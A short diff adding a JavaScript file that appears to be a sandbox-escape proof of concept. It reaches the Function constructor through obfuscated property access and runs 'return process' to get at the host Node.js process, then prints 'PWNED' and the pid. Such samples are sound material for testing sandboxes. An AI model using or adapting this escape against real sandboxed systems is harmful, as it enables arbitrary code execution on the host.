@@ -1,0 +1,10 @@
+'use strict';
+const w = ['con', 'structor'].join('');
+const t = { go: (f) => f[w] };
+t.go({});
+const fn = (x) => x;
+const keep = [];
+keep.push`${1}`;
+const tag = (...a) => a;
+const o = Date.now() > 1 ? tag`${t}`[1] : {};
+console.log('PWNED', o.go(fn)('return process')().pid);
